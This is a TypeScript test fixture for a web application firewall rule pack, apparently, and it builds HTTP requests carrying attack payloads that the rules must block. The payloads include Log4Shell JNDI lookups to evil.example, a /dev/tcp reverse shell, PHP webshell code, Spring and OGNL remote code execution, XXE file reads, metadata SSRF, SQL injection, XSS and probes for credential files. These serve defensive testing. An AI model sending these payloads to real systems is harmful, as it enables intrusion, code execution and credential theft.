/**
 * Attacks of our own writing: values, each in several places and encodings, and whole requests where the place is the
 * attack. `requestsOf` says which requests one value becomes.
 */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Header, HttpRequest } from '../../engine/model.ts'
import type { PackFamily } from '../pack.ts'

export type Attack = { readonly family: PackFamily; readonly name: string; readonly request: HttpRequest }

const shown: Readonly<Record<string, string>> = { '␍': '\r', '␊': '\n', '␀': '\0', '␉': '\t' }
const bytes = (text: string): string => Buffer.from(text, 'utf8').toString('latin1')

/** `[family]`, then a value for each line. */
export function attackValues(): readonly { readonly family: PackFamily; readonly value: string }[] {
  const found: { family: PackFamily; value: string }[] = []
  let family: PackFamily = 'setup'
  for (const line of readFileSync(join(import.meta.dirname, 'attacks.txt'), 'utf8').split('\n')) {
    const heading = /^\[([a-z-]+)\]$/.exec(line)
    if (heading) family = heading[1] as PackFamily
    else if (line !== '' && !line.startsWith('# ')) found.push({ family, value: bytes(line.replace(/[␍␊␀␉]/g, (c) => shown[c]!)) })
  }
  return found
}

const percent = (char: string): string => `%${char.charCodeAt(0).toString(16).padStart(2, '0')}`
export const encoded = (value: string): string => value.replace(/[^A-Za-z0-9_.~-]/g, percent)
const utf8 = (value: string): string => Buffer.from(value, 'latin1').toString('utf8')

export const chrome: readonly Header[] = [
  ['Host', 'shop.example'],
  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36'],
  ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8'],
  ['Accept-Language', 'en-GB,en;q=0.9,de;q=0.8'],
  ['Accept-Encoding', 'gzip, deflate, br, zstd'],
]

export const get = (uri: string, headers: readonly Header[] = []): HttpRequest => ({
  method: 'GET',
  uri,
  protocol: 'HTTP/1.1',
  headers: [...chrome, ...headers],
  body: '',
})

export const post = (uri: string, type: string, body: string, headers: readonly Header[] = []): HttpRequest => ({
  method: 'POST',
  uri,
  protocol: 'HTTP/1.1',
  headers: [...chrome, ...(type === '' ? [] : [['Content-Type', type] as const]), ['Content-Length', String(body.length)], ...headers],
  body,
})

export const form = 'application/x-www-form-urlencoded'
const multipart = (value: string): string =>
  ['--B', 'Content-Disposition: form-data; name="note"', '', value, '--B--', ''].join('\r\n')

/** Where and how a value arrives. */
export const places: Readonly<Record<string, (value: string) => HttpRequest>> = {
  query: (value) => get(`/search?q=${encoded(value)}&page=2`),
  'query, encoded twice': (value) => get(`/search?q=${encoded(encoded(value))}`),
  form: (value) => post('/comment', form, `name=ann&text=${encoded(value).replaceAll('%20', '+')}`),
  JSON: (value) => post('/api/v1/items', 'application/json', bytes(JSON.stringify({ id: 7, item: { note: utf8(value) } }))),
  multipart: (value) => post('/upload', 'multipart/form-data; boundary=B', multipart(value)),
  cookie: (value) => get('/', [['Cookie', `theme=dark; last=${encoded(value)}`]]),
}

const bare = (method: string, uri: string, headers: readonly Header[] = [], body = '', protocol = 'HTTP/1.1'): HttpRequest => ({
  method,
  uri,
  protocol,
  headers: [['Host', 'shop.example'], ...headers],
  body,
})
const fileNamed = (name: string): HttpRequest =>
  post(
    '/upload',
    'multipart/form-data; boundary=B',
    ['--B', `Content-Disposition: form-data; name="f"; filename="${name}"`, '', 'x', '--B--', ''].join('\r\n'),
  )
const xml = (body: string, type = 'application/xml'): HttpRequest => post('/api/xml', type, body)
const text = (body: string): HttpRequest => post('/notes', 'text/plain', body)

/** Where the place is the attack. */
const requests: Readonly<Partial<Record<PackFamily, Readonly<Record<string, HttpRequest>>>>> = {
  protocol: {
    TRACE: bare('TRACE', '/'),
    TRACK: bare('track', '/'),
    DEBUG: bare('DEBUG', '/x.aspx'),
    'a method in lower case': bare('get', '/'),
    'a method with signs': bare('GE"T', '/'),
    'a blank in the target': get('/a b'),
    'a control character in the target': get('/a\x01b'),
    'overlong UTF-8': get('/x?f=a%c0%aeb'),
    'ASCII as %u00xx': get('/x?f=%u003cb%u003e'),
    'a path encoded twice': get('/files/a%252fb'),
    'a path encoded three times': get('/files/a%25252eb'),
    'a null byte in the target': get('/x?f=a%00b'),
    'a null byte in a header': get('/', [['X-Name', 'a%00b']]),
    'a null byte in JSON': post('/', 'application/json', '{"a":"x\\u0000y"}'),
    'a null byte in a form': post('/', form, 'a=x%00y'),
    'a line break in a header': get('/', [['X-Name', 'a\r\nX-Admin: 1']]),
    'Content-Length twice': bare('POST', '/', [['Content-Length', '0'], ['Content-Length', '5']]),
    'Content-Length that is no number': bare('POST', '/', [['Content-Length', '+5']]),
    'Content-Length that is a list': bare('POST', '/', [['Content-Length', '5, 5']]),
    'both lengths': bare('POST', '/', [['Content-Length', '5'], ['Transfer-Encoding', 'chunked']], 'a=b&c'),
    'Transfer-Encoding with a tab': bare('POST', '/', [['Transfer-Encoding', '\x0bchunked']]),
    'Transfer-Encoding that is unknown': bare('POST', '/', [['Transfer-Encoding', 'xchunked']]),
    'Transfer-Encoding, chunked first': bare('POST', '/', [['Transfer-Encoding', 'chunked, identity']]),
    'a blank in the name of a header': bare('POST', '/', [['Transfer-Encoding ', 'chunked']]),
    'Connection that drops a header': get('/', [['Connection', 'close, X-Forwarded-For']]),
    'Connection that drops credentials': get('/', [['Connection', 'Authorization']]),
    'many ranges': get('/x', [['Range', 'bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5']]),
    'UTF-7': post('/', 'text/html; charset=utf-7', '+ADw-'),
    'IBM037': post('/', 'application/x-www-form-urlencoded; charset=ibm037', 'a=b'),
    'UTF-16': post('/', 'application/json; charset="utf-16"', '[1]'),
    'UTF-7 in a part': post('/', 'multipart/form-data; boundary=B', ['--B', 'Content-Disposition: form-data; name="a"', 'Content-Type: text/plain; charset=utf-7', '', 'x', '--B--', ''].join('\r\n')),
    'UTF-16 by a field': post('/', form, '_charset_=utf-16&a=b'),
    httpoxy: get('/', [['Proxy', 'http://evil.example:8080']]),
    'the middleware of Next.js': get('/admin', [['x-middleware-subrequest', 'middleware:middleware:middleware']]),
    'a PHP upload': fileNamed('shell.php'),
    'a PHP upload in disguise': fileNamed('shell.php.jpg'),
    'a PHP upload with a dot': fileNamed('shell.pHp5.'),
    'a JSP upload': fileNamed('x.jsp;.png'),
    'an .htaccess upload': fileNamed('.htaccess'),
    'a web.config upload': fileNamed('web.config'),
    'an upload named in JSON': post('/files', 'application/json', '{"filename":"a.phtml"}'),
    'HTTP/0.9': bare('GET', '/', [], '', 'HTTP/0.9'),
    'a protocol of another kind': bare('GET', '/', [], '', 'JUNK/1.0'),
  },
  scanners: Object.fromEntries(
    [
      'sqlmap/1.8#stable (https://sqlmap.org)',
      'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)',
      'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
      'WPScan v3.8.25 (https://wpscan.com)',
      'gobuster/3.6',
      'Fuzz Faster U Fool v2.1.0',
      'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
      'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
      'Mozilla/5.0 zgrab/0.x',
      'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
      'feroxbuster/2.10.0',
      'Wfuzz/3.1.0',
      'ZmEu',
      'Acunetix-Product',
    ]
      .map((agent): [string, HttpRequest] => [agent, bare('GET', '/', [['User-Agent', agent]])])
      .concat([['Acunetix-Aspect', get('/', [['Acunetix-Aspect', 'enabled']])]]),
  ),
  probing: Object.fromEntries(
    [
      '/.git/HEAD',
      '/.git/config',
      '/shop/.svn/entries',
      '/shop/.hg/store',
      '/.%67it/config',
      '/.env',
      '/api/.env.production',
      '/.aws/credentials',
      '/.ssh/id_ed25519',
      '/.DS_Store',
      '/.claude/settings.json',
      '/.htpasswd',
      '/wp-login.php',
      '/blog/xmlrpc.php',
      '/wp-admin/admin-ajax.php',
      '/wp-config.php.bak',
      '/phpMyAdmin/index.php',
      '/adminer.php',
      '/phpinfo.php',
      '/actuator/env',
      '/actuator/heapdump',
      '/actuator/gateway/routes/x',
      '/manager/html',
      '/jmx-console/',
      '/invoker/JMXInvokerServlet',
      '/wls-wsat/CoordinatorPortType',
      '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      '/_ignition/execute-solution',
      '/server-status',
      '/elmah.axd',
      '/boaform/admin/formLogin',
      '/HNAP1/',
      '/cgi-bin/luci/;stok=/locale',
      '/setup.cgi?next_file=x',
      '/owa/auth/x.js',
      '/autodiscover/autodiscover.json?@evil.example/owa/',
      '/remote/fgt_lang?lang=x',
      '/solr/admin/cores',
      '/tmui/login.jsp',
    ].map((uri) => [uri, get(uri)]),
  ),
  jndi: {
    'in the user agent': get('/', [['User-Agent', '${jndi:ldap://evil.example/a}']]),
    'in the name of a header': get('/', [['${jndi:ldap://evil.example/a}', 'x']]),
    'in a header of the application': get('/', [['X-Api-Version', '${${lower:j}ndi:rmi://evil.example/a}']]),
    'in X-Forwarded-For': get('/', [['X-Forwarded-For', '${jndi:dns://evil.example}']]),
    'in Authorization': get('/', [['Authorization', 'Bearer ${${::-j}ndi:ldap://evil.example/a}']]),
    'in a cookie': get('/', [['Cookie', 'a=${jndi:ldap://evil.example/a}']]),
    'in the path': get('/$%7Bjndi:ldap:/evil.example/a%7D/x'),
    'in the path, encoded twice in pieces': get('/x/%24%7B%6a%6e%64%69:ldap://evil.example%7D'),
    'in the name of an argument': get('/?$%7Bjndi:ldap://evil.example%7D=1'),
    'in text': text('user ${jndi:ldap://evil.example/a} logged in'),
    'in XML': xml('<a b="${jndi:ldap://evil.example/a}"/>'),
    'in the name of a file': fileNamed('${jndi:ldap://evil.example}.png'),
    'a secret in a header': get('/', [['User-Agent', '${env:AWS_SECRET_ACCESS_KEY}']]),
    'the address alone': text('jndi:ldap://evil.example/a'),
  },
  spring: {
    spring4shell: post('/', form, 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'),
    'spring4shell, in brackets': post('/', form, 'class%5B%27module%27%5D.classLoader.x=1'),
    'spring4shell, old': get('/?class.classLoader.URLs[0]=jar:http://evil.example/x.jar!/'),
    'spring4shell in JSON': post('/', 'application/json', '{"class":{"module":{"classLoader":{"a":"b"}}}}'),
    'Spring Cloud Function': post('/functionRouter', 'text/plain', 'x', [
      ['spring.cloud.function.routing-expression', 'T(java.lang.Runtime).getRuntime().exec("id")'],
    ]),
    'Spring Cloud Function, the header alone': get('/', [['spring.cloud.function.routing-expression', 'x']]),
    'SpEL in a header': get('/', [['X-Expr', '#{T(java.lang.Runtime).getRuntime()}']]),
    'SpEL in text': text('#{ new java.lang.ProcessBuilder("id") }'),
  },
  deserialisation: {
    'a Java object as a body': post('/invoke', 'application/x-java-serialized-object', '\xac\xed\x00\x05sr\x00\x11java.util.HashMap'),
    'a Java object in a header': get('/', [['X-Token', 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==']]),
    'a type in JSON': post('/', 'application/json', '{"x":{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory"}}'),
    'a type of the application in JSON': post('/', 'application/json', '{"x":{"@type":"com.acme.Gadget"}}'),
    'YAML of Python': post('/', 'application/yaml', 'a: !!python/object/apply:os.system ["id"]'),
    'XML of XStream': xml('<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>'),
  },
  ognl: {
    'in Content-Type': bare('POST', '/', [['Content-Type', "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"]]),
    'in the path': get('/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/x.action'),
    'in the path, small': get('/%25%7B7*7%7D/x.action'),
    'a redirect': get('/x.action?redirect:%24%7B7*7%7D'),
    'a redirect, without arithmetic': get('/x.action?redirectAction:%25%7Bx%7D'),
    'in the name of an argument': get('/x?%28%23_memberAccess%5B%22a%22%5D%29=1'),
  },
  sqli: {
    'in the user agent': get('/', [['User-Agent', "x' AND SLEEP(5) AND '1'='1"]]),
    'in Referer': get('/', [['Referer', "https://shop.example/' union select 1,2,version()-- -"]]),
    'in the path': get('/items/1%20union%20select%20null,null--'),
    'in the name of an argument': get('/?id%27%20or%201=1--=1'),
    'in the last part of the path': get("/items/x'%20or%20'a'='a"),
    'in the middle of the path': get('/items/1%20union%20select%20null,null/x'),
    'in XML': xml("<a>1' union select null,password from users--</a>"),
  },
  xss: {
    'in the path': get('/x/%3Cscript%3Ealert(1)%3C/script%3E'),
    'in the user agent': get('/', [['User-Agent', '<script>alert(1)</script>']]),
    'in Referer': get('/', [['Referer', 'https://x/?<svg onload=alert(1)>']]),
    'in the name of an argument': get('/?%3Csvg%20onload%3Dalert(1)%3E=1'),
    'in the name of a file': fileNamed('<img src=x onerror=alert(1)>.png'),
    'in XML': xml('<a>&lt;script&gt;alert(1)&lt;/script&gt;</a>'),
  },
  traversal: {
    'in the path': get('/static/../../etc/x'),
    'in the path, escaped': get('/static/%2e%2e/%2e%2e/x'),
    'in the path, slashes escaped': get('/static/..%2f..%2fx'),
    'in the path, twice': get('/static/..%255c..%255cx'),
    'in the path, Tomcat': get('/app/..;/manager/status'),
    'in the path, IIS': get('/a/%u002e%u002e/x'),
    'in the query, twice': get('/?f=..%252f..%252fx'),
    'dots escaped in the query': get('/?f=%2e%2e%2fx'),
    'in the name of a file': fileNamed('../../x.png'),
    'in a header': get('/', [['X-File', '../../../x']]),
    'a file of the system in the path': get('/cgi/etc/passwd'),
  },
  inclusion: {
    'a page from elsewhere': get('/?page=http://evil.example/shell.txt'),
    'a template from elsewhere': get('/?template=https%3A%2F%2Fevil.example%2Fx.php'),
    'metadata as the host': bare('GET', '/', [['Host', '169.254.169.254']]),
    'metadata in the path': get('/proxy/http://169.254.169.254/latest/meta-data/'),
    'metadata in text': text('fetch http://169.254.169.254/latest/meta-data/ now'),
    'gopher in text': text('url=gopher://127.0.0.1:6379/_FLUSHALL'),
  },
  commands: {
    'a line break': get('/?host=1.1.1.1%0aid'),
    'a line break and a command': get('/?host=x%0d%0acat%20/x'),
    'shellshock in the user agent': get('/cgi/x', [['User-Agent', '() { :;}; /bin/bash -c id']]),
    'shellshock in Referer': get('/cgi/x', [['Referer', '() { _; } >_[$($())] { id; }']]),
    'in the path': get('/ping/x;id'),
    'in the name of an argument': get('/?;whoami=1'),
    'in the name of a file': fileNamed('x;sleep 5;.png'),
    'a shell in text': text('run: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'),
    'PowerShell in text': text('powershell -nop -w hidden -enc SQBFAFgA'),
  },
  code: {
    'PHP in text': text('hello <?php system($_GET[0]); ?>'),
    'PHP in the user agent': get('/', [['User-Agent', "<?php system('id'); ?>"]]),
    'an argument for php-cgi': get('/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input'),
    'an argument for php-cgi on Windows': get('/index.php?%ADd+cgi.x'),
    'the source by php-cgi': get('/index.php?-s'),
    'Python in text': text("__import__('os').system('id')"),
    'a flight payload': post(
      '/',
      'multipart/form-data; boundary=B',
      ['--B', 'Content-Disposition: form-data; name="0"', '', '{"then":"$1:__proto__:then","status":"resolved_model"}', '--B--', ''].join('\r\n'),
      [['Next-Action', 'x']],
    ),
  },
  templates: {
    'in the path': get('/hello/%7B%7B7*7%7D%7D'),
    'in text': text('Hello {{7*7}}'),
    'in the user agent': get('/', [['User-Agent', '{{config.items()}}']]),
  },
  nosql: {
    'a password that differs': post('/login', form, 'username=admin&password[$ne]=x'),
    'a pattern': get('/login?user[$regex]=^a&pass[$exists]=true'),
    'in JSON': post('/login', 'application/json', '{"username":"admin","password":{"$gt":""}}'),
    '$where': post('/find', 'application/json', '{"$where":"this.a == 1"}'),
    '$function': get('/find?q[$function]=x'),
    'Basic': get('/', [['Authorization', '{"$ne":1}']]),
  },
  splitting: {
    'in the query': get('/?lang=en%0d%0aSet-Cookie:%20sid=evil'),
    'in the query, a body': get('/?lang=en%0d%0a%0d%0a<html>'),
    'in the query, LF only': get('/?u=x%0aLocation:%20//evil.example'),
    'in the path': get('/x%0d%0aX-Y:1'),
    'a line break alone in the path': get('/x%0dy'),
    'in disguise': get('/?u=%E5%98%8A%E5%98%8DSet-Cookie:x=1'),
    'in a field of a mail': post('/contact', form, 'email=ann%40example.com%0ABcc:+all%40example.com&message=hi'),
    'in the subject of a mail': post('/contact', form, 'subject=Hi%0D%0ATo:+all%40example.com&message=hi'),
  },
  xxe: {
    'a file': xml('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hosts">]><r>&x;</r>'),
    'a parameter entity': xml('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]><r/>'),
    'growth without end': xml('<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'),
    'a type from elsewhere': xml('<!DOCTYPE r PUBLIC "-//X//Y" "http://evil.example/x.dtd"><r/>'),
    XInclude: xml('<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///x"/></r>'),
    'in SOAP': xml('<!DOCTYPE s [<!ENTITY x SYSTEM "http://evil.example/">]><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"/>', 'text/xml'),
    'in SVG': xml('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///x">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>', 'image/svg+xml'),
    'an encoding that hides': xml('<?xml version="1.0" encoding="UTF-7"?><r/>'),
    XMLDecoder: xml('<java version="1.8"><object class="java.lang.ProcessBuilder"><void method="start"/></object></java>'),
    pingback: xml('<methodCall><methodName>pingback.ping</methodName></methodCall>'),
  },
  prototype: {
    'in the name of an argument': get('/?__proto__[isAdmin]=1'),
    'in the name of an argument, by the constructor': get('/?constructor[prototype][x]=1'),
    'in JSON': post('/', 'application/json', '{"a":{"__proto__":{"x":1}}}'),
    'in JSON, by the constructor': post('/', 'application/json', '{"constructor":{"prototype":{"x":1}}}'),
    'in the name of a cookie': get('/', [['Cookie', '__proto__.x=1']]),
    'in text': text('{"__proto__":{"x":1}}'),
  },
  session: {
    'from another site': get('/login?PHPSESSID=evil', [['Referer', 'https://evil.example/x']]),
    'a Java session from another site': get('/login?jsessionid=evil', [['Referer', 'http://evil.example/']]),
  },
  'raw-body': {
    'a script in text': text('hello <script>steal()</script>'),
    'a handler in text': text('hello <p title=x onmouseover=x()>'),
    'SQL in text': text("id is 1 union select null,null and more"),
    'a condition in text': text("name is x' or 'a'='a and more"),
    'a statement in text': text('1; drop table users; and more'),
    'a file of the system in text': text('please send /etc/passwd to me'),
    'climbing in text': text('see ../../../x for it'),
    'a command in text': text('host 1.1.1.1; cat /x'),
    'without a type': post('/', '', '<script>steal()</script>'),
    'of an unknown type': post('/', 'application/x-thing', "x' or 'a'='a"),
  },
}

/** Everything that must be blocked at paranoia level 1. */
export function attacks(): readonly Attack[] {
  const values = attackValues().flatMap(({ family, value }) =>
    Object.entries(places).map(([place, make]) => ({ family, name: `${place}: ${value}`, request: make(value) })),
  )
  const whole = Object.entries(requests).flatMap(([family, list]) =>
    Object.entries(list).map(([name, request]) => ({ family: family as PackFamily, name, request })),
  )
  return [...values, ...whole]
}
